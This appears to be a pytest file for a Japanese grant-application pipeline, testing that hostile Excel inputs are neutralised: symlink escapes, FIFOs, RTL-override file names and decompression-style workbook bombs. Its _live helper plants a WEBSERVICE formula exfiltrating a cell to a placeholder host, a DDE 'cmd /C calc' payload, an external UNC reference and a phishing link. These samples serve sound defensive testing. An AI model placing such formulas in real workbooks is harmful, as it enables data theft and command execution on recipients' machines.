"""Hostile input, round 2 (issue 18): odd inbox entries never stop the round, nothing live
reaches staff in a 差戻し workbook, and openpyxl never builds a sheet of unbounded size."""

from __future__ import annotations

import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.worksheet import Worksheet

from pipeline.core.errors import InboxError, OutputError
from pipeline.core.settings import RoundSettings
from pipeline.run import run_round
from pipeline.stage1_read.sniff import sniff
from tests.conftest import ROUND_TOML
from tests.formfactory import find_label, make_form, with_values
from tests.platforms import needs_fifo, needs_memory_limit, needs_symlinks
from tests.roundfactory import RUN_AT, add_form, org

ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.slow
@needs_symlinks
def test_odd_names_and_links_never_stop_the_round(inbox: Path, blank_dir: Path,
                                                 settings: RoundSettings, tmp_path: Path) -> None:
    good = add_form(inbox, "good.xlsx", org("良い会", "新宿区"), blank_dir=blank_dir)
    # a name in Shift_JIS bytes, as unzip leaves it on Linux
    sjis = os.path.join(os.fsencode(inbox), "申請書_杉並.xlsx".encode("cp932"))
    with open(sjis, "wb") as handle:
        handle.write(good.read_bytes().replace(b"x", b"x"))
    (inbox / "bad\x1bname.xlsx").write_bytes(b"not a workbook")  # ESC in the name
    secret = tmp_path / "secret.txt"
    secret.write_text("password", encoding="utf-8")
    (inbox / "link.xlsx").symlink_to(secret)  # a link out of inbox/
    (inbox / "loop.xlsx").symlink_to(inbox / "loop.xlsx")  # a link to itself
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    files = set(result.ledger["file"])
    assert "申請書_杉並.xlsx" in files  # shown decoded, read from the real path
    assert "bad\\x1bname.xlsx" in files  # the control character shown, not lost
    assert not {"link.xlsx", "loop.xlsx"} & files  # links are listed, never read
    ignored = dict(result.ignored)
    assert ignored["link.xlsx"].startswith("リンク") and ignored["loop.xlsx"].startswith("リンク")
    published = b"".join(p.read_bytes() for p in (tmp_path / "outbox").rglob("*") if p.is_file())
    assert b"password" not in published


@pytest.mark.slow
def test_output_file_names_hide_nothing_and_keep_links_whole(
        inbox: Path, blank_dir: Path, settings: RoundSettings, tmp_path: Path) -> None:
    """A right-to-left override or a zero-width space from an applicant's name or file name
    never reaches a file name we write (選定\u202etxt.exe would show as exe.txt定選), nor
    # or %, at which the link from 選定順位 to a plan breaks."""
    add_form(inbox, "申請\u202eslx.#1%.xlsx", org("新宿\u200b#1%\u202e社協", "新宿区"),
             blank_dir=blank_dir)
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    assert result.ledger["decision"].tolist() == ["選定"]
    names = [p.name for p in (tmp_path / "outbox").rglob("*") if p.is_file()]
    assert "01_新宿区_新宿_1_社協.xlsx" in names
    # the override is named where staff read the file name (<U+202E>), never kept raw
    assert any(name.startswith("申請_U+202E_slx._1_") for name in names), names
    for name in names:
        assert not {"#", "%", "\u202e", "\u200b"} & set(name), name


@pytest.mark.slow
@needs_fifo
@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_check_never_waits_on_a_pipe_or_a_device(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "申請.xlsx"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    assert sniff(path) == "cannot_open"
    started = time.monotonic()
    completed = subprocess.run([sys.executable, "-m", "pipeline", "check", "--config",
                                str(ROUND_TOML), str(path)],
                               cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert completed.returncode == 3 and time.monotonic() - started < 60
    assert "ファイルを開けません" in completed.stdout


def _live(sheet: Worksheet) -> None:
    """Formulas that call out, a DDE link, an external reference, a phishing hyperlink."""
    sheet["E1"] = '=WEBSERVICE("http://example.invalid/?"&ENCODEURL(B8))'
    sheet["E2"] = "=cmd|' /C calc'!A0"
    sheet["E3"] = "='\\\\host\\share\\[x.xlsx]Sheet1'!A1"
    sheet["E4"] = "ここをクリック"
    sheet["E4"].hyperlink = "http://phishing.invalid/"
    row, col = find_label(sheet, "電話番号")
    sheet.cell(row, col + 1).value = "12"  # an input problem: the form comes back to fix


@pytest.mark.slow
def test_the_returned_workbook_holds_nothing_live(inbox: Path, blank_dir: Path,
                                                 settings: RoundSettings, tmp_path: Path) -> None:
    path = make_form(inbox / "live.xlsx", with_values({"団体名": "=HYPERLINK(\"x\",\"typed\")"}),
                     edit=_live, blank_dir=blank_dir)
    workbook = openpyxl.load_workbook(path)
    workbook.defined_names["外部"] = DefinedName("外部", attr_text="'\\\\host\\[y.xlsx]S'!$A$1")
    workbook.save(path)
    run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    marked = tmp_path / "outbox" / "差戻し" / "live_要修正.xlsx"
    returned = openpyxl.load_workbook(marked)
    sheet = returned["申請書"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink]
    assert not list(returned.defined_names)
    # what the applicant typed that merely looks like a formula stays their text
    row, col = find_label(sheet, "団体名")
    assert sheet.cell(row, col + 1).value == '=HYPERLINK("x","typed")'
    with zipfile.ZipFile(marked) as archive:
        assert not [n for n in archive.namelist() if "externalLink" in n]
        assert not [n for n in archive.namelist() if n.endswith(".xml") and b"<f>" in archive.read(n)]
    # the 修正箇所 sheet names the cells whose formula was replaced, asking for the value
    assert "申請書!E1" in str(returned["修正箇所"]["A2"].value)


def _rewrite(path: Path, part: str, change: Callable[[bytes], bytes]) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {info: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in parts.items():
            archive.writestr(info, change(data) if info.filename == part else data)


@pytest.mark.slow
def test_a_merged_range_reaching_the_sheet_s_end_is_never_built(
        inbox: Path, blank_dir: Path, settings: RoundSettings, tmp_path: Path) -> None:
    """openpyxl would create every cell of the range (8 GB in 79 s): the check before it refuses."""
    path = make_form(inbox / "merge.xlsx", org("結合の会", "新宿区", {"電話番号": "12"}),
                     blank_dir=blank_dir)
    # on the guidance sheet, not 申請書: the form itself reads fine and comes back to fix
    _rewrite(path, "xl/worksheets/sheet2.xml", lambda xml: xml.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="D1:XFD1048576"/>'
                         b"</mergeCells>", 1))
    started = time.monotonic()
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    assert time.monotonic() - started < 30
    assert result.ledger.set_index("file").loc["merge.xlsx", "decision"] == "要修正"
    # never opened by openpyxl: the values go back in a fresh copy of our own form
    marked = openpyxl.load_workbook(tmp_path / "outbox" / "差戻し" / "merge_要修正.xlsx")
    assert not marked["記入方法"].merged_cells.ranges or all(
        "XFD" not in str(r) for r in marked["記入方法"].merged_cells.ranges)
    letter = (tmp_path / "outbox" / "差戻し" / "merge_連絡文.txt").read_text(encoding="utf-8")
    assert "新しい申請用紙（.xlsx）に写し" in letter


def test_a_workbook_declaring_thousands_of_sheets_is_refused(tmp_path: Path,
                                                            blank_dir: Path) -> None:
    path = make_form(tmp_path / "many.xlsx", blank_dir=blank_dir)
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n + 10)
                      for n in range(20000))
    _rewrite(path, "xl/workbook.xml", lambda xml: xml.replace(b"</sheets>", sheets + b"</sheets>"))
    assert sniff(path) == "too_big"


@pytest.mark.slow
def test_a_date_cell_no_calendar_holds_never_stops_the_round(
        inbox: Path, blank_dir: Path, settings: RoundSettings, tmp_path: Path) -> None:
    """A date-formatted -1e308 (the Rust parser panics on it) in a review sheet and the register."""
    add_form(inbox, "a.xlsx", org("エーの会", "新宿区"), blank_dir=blank_dir)
    run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    for path, sheet_name in ((inbox / "審査" / "審査票_甲.xlsx", "審査票"), (inbox / "受付簿.xlsx", None)):
        if sheet_name:
            workbook = openpyxl.load_workbook(tmp_path / "outbox" / "審査票.xlsx")
            sheet = workbook[sheet_name]
            cell = sheet.cell(6, 10)
        else:
            workbook = openpyxl.Workbook()
            sheet = workbook.active
            assert sheet is not None
            sheet.append(["ファイル名", "受付日時"])
            sheet.append(["a.xlsx", 0])
            cell = sheet["B2"]
        cell.value = -1e308
        cell.number_format = "yyyy/mm/dd"
        path.parent.mkdir(exist_ok=True)
        workbook.save(path)
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    assert len(result.ledger) == 1  # the round completed; the odd cells are reported


@pytest.mark.parametrize("where", ["same", "inside", "around"])
def test_an_outbox_overlapping_the_inbox_is_refused(tmp_path: Path, settings: RoundSettings,
                                                   where: str) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    outbox = {"same": inbox, "inside": inbox / "out", "around": tmp_path}[where]
    with pytest.raises(InboxError, match="重なっています"):
        run_round(inbox, outbox, settings, RUN_AT)


@pytest.mark.slow
def test_appledouble_files_are_system_files(inbox: Path, settings: RoundSettings,
                                            tmp_path: Path) -> None:
    (inbox / "._申請書.xlsx").write_bytes(b"\x00\x05\x16\x07")
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    assert result.ledger.empty and dict(result.ignored)["._申請書.xlsx"].startswith("macOS")


@pytest.mark.slow
def test_two_runs_never_share_an_outbox(inbox: Path, blank_dir: Path, settings: RoundSettings,
                                        tmp_path: Path) -> None:
    add_form(inbox, "a.xlsx", org("エーの会", "新宿区"), blank_dir=blank_dir)
    outbox = tmp_path / "outbox"
    outbox.mkdir()
    (outbox / ".bansou.started").write_text("2016年7月1日 09:00:00", encoding="utf-8")
    holder = subprocess.Popen(  # another run, in another process (another PC), holds the outbox
        [sys.executable, "-c", "import filelock, sys, time\n"
         "held = filelock.FileLock(sys.argv[1]); held.acquire(); print('locked', flush=True)\n"
         "time.sleep(60)",
         str(outbox / ".bansou.lock")], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        with pytest.raises(OutputError, match="別の実行（2016年7月1日 09:00:00 開始）"):
            run_round(inbox, outbox, settings, RUN_AT)
        assert not (outbox / "選定結果.xlsx").exists()
    finally:
        holder.kill()
        holder.wait()
    run_round(inbox, outbox, settings, RUN_AT)  # released: the next run goes ahead
    assert (outbox / "選定結果.xlsx").exists()


@pytest.mark.slow
def test_excel_s_29_february_1900_is_not_a_date(inbox: Path, blank_dir: Path,
                                                 settings: RoundSettings, tmp_path: Path) -> None:
    """Serial 60 is a day that never was (calamine reads it as the 28th, like serial 59)."""
    def fictitious_day(sheet: Worksheet) -> None:
        row, col = find_label(sheet, "申請日")
        sheet.cell(row, col + 1).value = 60
        sheet.cell(row, col + 1).number_format = "yyyy/m/d"

    make_form(inbox / "leap.xlsx", org("うるう会", "新宿区"), blank_dir=blank_dir,
              edit=fictitious_day)
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    assert result.ledger["decision"].tolist() == ["要修正"]
    assert result.problems["code"].tolist() == ["bad_date"]


def test_huge_numbers_are_shown_as_written_not_expanded() -> None:
    from pipeline.core.normalize import display

    assert display(1e308) == "1e+308"
    assert display(-2.5e20) == "-2.5e+20"
    assert display(1234567.0) == "1234567"


@pytest.mark.slow
def test_values_longer_than_a_cell_holds_are_cut_saying_so(
        inbox: Path, blank_dir: Path, settings: RoundSettings, tmp_path: Path) -> None:
    from pipeline.stage3_write.xlsx import CELL_LIMIT, cell_text

    clipped = cell_text("あ" * 40_000)
    assert len(clipped) == CELL_LIMIT and clipped.endswith("全文は元のファイルにあります）")
    assert cell_text("短い") == "短い"
    add_form(inbox, "long.xlsx", org("長い会", "新宿区", {"電話番号": "9" * CELL_LIMIT}),
             blank_dir=blank_dir)
    run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    errors = openpyxl.load_workbook(tmp_path / "outbox" / "選定結果.xlsx")["入力エラー"]
    header = [cell.value for cell in errors[1]]
    row = dict(zip(header, (cell.value for cell in errors[2]), strict=True))
    assert row["入力値"] == "9" * CELL_LIMIT  # what was typed, whole: it fits
    assert row["エラー内容"].startswith(f"「電話番号」の記入が長すぎます（{CELL_LIMIT}文字）。")
    assert len(row["エラー内容"]) < 300


def _exhaust_memory(*_: object, **__: object) -> bool:
    from pipeline.core.processes import MEMORY_PER_WORKER

    return bool(bytearray(MEMORY_PER_WORKER * 3))


@pytest.mark.slow
def test_a_workbook_that_exhausts_openpyxl_costs_only_its_marked_copy(
        inbox: Path, blank_dir: Path, settings: RoundSettings, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The 差戻し annotation opens the applicant's workbook with openpyxl in a worker with the
    memory limit: when that runs out, the applicant gets a fresh copy of the form instead."""
    from pipeline.stage3_write import letters

    monkeypatch.setattr(letters, "annotate", _exhaust_memory)
    add_form(inbox, "fix.xlsx", org("直す会", "新宿区", {"電話番号": "12"}), blank_dir=blank_dir)
    result = run_round(inbox, tmp_path / "outbox", settings, RUN_AT)
    assert result.ledger["decision"].tolist() == ["要修正"]
    letter = (tmp_path / "outbox" / "差戻し" / "fix_連絡文.txt").read_text(encoding="utf-8")
    assert letters._ATTACHED_FRESH_COPY in letter
    summary = openpyxl.load_workbook(tmp_path / "outbox" / "差戻し" / "fix_要修正.xlsx")["修正箇所"]
    assert summary["A2"].value == letters._FRESH_COPY_NOTE


CAP = 4 << 30  # bytes of address space for the whole run, workers included

_CAPPED_RUN = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({cap}, {cap}))
from pipeline.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.slow
@needs_memory_limit  # the cap is RLIMIT_AS
def test_the_round_s_hostile_workbooks_fit_in_a_memory_cap(tmp_path: Path, blank_dir: Path) -> None:
    """Each workbook that once took the machine (a merged range to the sheet's end, a million
    empty cells on a hidden sheet behind a stored entry, 20,000 declared sheets, a review sheet
    reaching XFD1048576), in one round run under an address-space cap: a regression fails
    here with an error instead of swapping."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    make_form(inbox / "good.xlsx", org("良い会", "新宿区"), blank_dir=blank_dir)
    merge = make_form(inbox / "merge.xlsx", org("結合の会", "八王子市", {"電話番号": "12"}),
                      blank_dir=blank_dir)
    _rewrite(merge, "xl/worksheets/sheet2.xml", lambda xml: xml.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="D1:XFD1048576"/>'
                         b"</mergeCells>", 1))
    empty = make_form(inbox / "empty.xlsx", org("空の会", "町田市", {"電話番号": "12"}),
                      blank_dir=blank_dir)
    cells = b"".join(b'<row r="%d">%s</row>' % (r, b"".join(
        b'<c r="%s%d"/>' % (column, r) for column in (b"A", b"B", b"C", b"D", b"E")))
        for r in range(1001, 201_001))  # below the guidance's own rows
    _rewrite(empty, "xl/worksheets/sheet2.xml",
             lambda xml: xml.replace(b"</sheetData>", cells + b"</sheetData>", 1))
    with zipfile.ZipFile(empty, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("docProps/padding.bin", os.urandom(1 << 20))
    many = make_form(inbox / "many.xlsx", org("多い会", "三鷹市"), blank_dir=blank_dir)
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (n, n + 10)
                      for n in range(20000))
    _rewrite(many, "xl/workbook.xml", lambda xml: xml.replace(b"</sheets>", sheets + b"</sheets>"))
    review = inbox / "審査" / "審査票_乙.xlsx"
    review.parent.mkdir()
    workbook = openpyxl.Workbook()
    first = workbook.active
    assert first is not None
    first.title = "審査票"
    first["XFD1048576"] = 1
    workbook.create_sheet("申請書")["A1"] = "申請日"
    workbook.save(review)

    started = time.monotonic()
    completed = subprocess.run(
        [sys.executable, "-c", _CAPPED_RUN.format(cap=CAP), "run", "--inbox", str(inbox),
         "--outbox", str(tmp_path / "outbox"), "--config", str(ROUND_TOML)],
        cwd=Path(__file__).resolve().parents[1], capture_output=True, text=True, timeout=600,
        check=False, env={**os.environ, "SOURCE_DATE_EPOCH": str(int(RUN_AT.timestamp()))})
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert time.monotonic() - started < 120
    assert "4件のファイルを判定しました" in completed.stdout
    listing = openpyxl.load_workbook(tmp_path / "outbox" / "選定結果.xlsx")["受付一覧"]
    header = [cell.value for cell in listing[1]]
    files, judged = header.index("ファイル名"), header.index("判定")
    decisions = {row[files]: row[judged] for row in listing.iter_rows(min_row=2, values_only=True)}
    assert decisions["good.xlsx"] == "選定" and decisions["merge.xlsx"] == "要修正"
    assert decisions["many.xlsx"] == "読込不可"
    assert decisions["empty.xlsx"] in ("要修正", "読込不可")
